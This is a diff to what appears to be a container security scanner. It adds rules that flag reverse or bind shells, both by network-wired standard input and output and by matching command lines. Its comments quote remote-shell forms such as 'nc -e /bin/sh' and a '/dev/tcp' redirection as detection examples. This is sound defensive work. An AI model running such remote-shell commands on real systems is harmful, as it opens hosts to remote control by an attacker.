@@ -6,6 +6,7 @@
 import type { Finding, RuleHit } from '../report/finding.js';
 import type { EngineEvent, ProcessRecord } from '../report/process.js';
 import { withTechnique } from './change-rules.js';
+import { REMOTE_SHELLS } from './remote-shells.js';
 
 export interface ProcessContext {
   /** Paths the container wrote (added or changed, in its layer or its mounts). */
@@ -157,6 +158,49 @@ export const publicConnection: ProcessRule = (p) => {
     : undefined;
 };
 
+// Programs that read commands from their standard input: shells and script interpreters.
+const INTERPRETER =
+  /(?:^|\/)(?:(?:ba|da|k|z|a|c|tc|mk)?sh|busybox|python[\d.]{0,6}|perl[\d.]{0,6}|ruby[\d.]{0,6}|php[\d.]{0,6}|node(?:js)?|lua[\d.]{0,6}|tclsh[\d.]{0,6}|pwsh|g?awk)$/;
+
+/**
+ * A process whose standard input and output are a network connection: what `nc -e
+ * /bin/sh`, `bash -i >& /dev/tcp/…` and every reverse or bind shell leave behind, however
+ * they were started and whatever the command line says. A command interpreter so wired
+ * takes its commands from the other end; any other program is worth a look (an
+ * inetd-style service, or a program such a shell started).
+ */
+export const shellOnNetwork: ProcessRule = (p) => {
+  const wired = p.sockets.find(
+    (s) =>
+      s.protocol !== 'unix' &&
+      s.stdio?.includes(0) === true &&
+      (s.stdio.includes(1) || s.stdio.includes(2)),
+  );
+  if (!wired) return undefined;
+  const peer = wired.remote ? `to ${wired.remote}` : `on ${wired.local}`;
+  return INTERPRETER.test(p.exe.path) || INTERPRETER.test(p.commandLine[0] ?? '')
+    ? {
+        severity: 'critical',
+        reason: `a command interpreter whose input and output are a network connection (${peer}): a reverse or bind shell, run by whoever is at the other end (${command(p)})`,
+      }
+    : {
+        severity: 'high',
+        reason: `its input and output are a network connection (${peer}): an inetd-style service, or a program a remote shell started (${command(p)})`,
+      };
+};
+
+/** A command line that is itself a reverse or bind shell (`nc 203.0.113.7 4444 -e sh`). */
+export const remoteShellCommand: ProcessRule = (p) => {
+  const form = REMOTE_SHELLS.find((f) => f.test.test(p.commandLine.join(' ')));
+  return form
+    ? {
+        severity: 'critical',
+        reason: `its command line is a remote shell (${form.what}): ${command(p)}`,
+        attack: form.attack,
+      }
+    : undefined;
+};
+
 export const PROCESS_RULES: Readonly<Record<string, ProcessRule>> = {
   'process-deleted-executable': deletedExecutable,
   'process-executable-not-in-image': executableNotInImage,
@@ -171,6 +215,8 @@ export const PROCESS_RULES: Readonly<Record<string, ProcessRule>> = {
   'process-holds-deleted-file': holdsDeletedFile,
   'process-undeclared-listener': undeclaredListener,
   'process-public-connection': publicConnection,
+  'process-shell-on-network': shellOnNetwork,
+  'process-remote-shell-command': remoteShellCommand,
 };
 
 /** Every rule that fires for one process. */
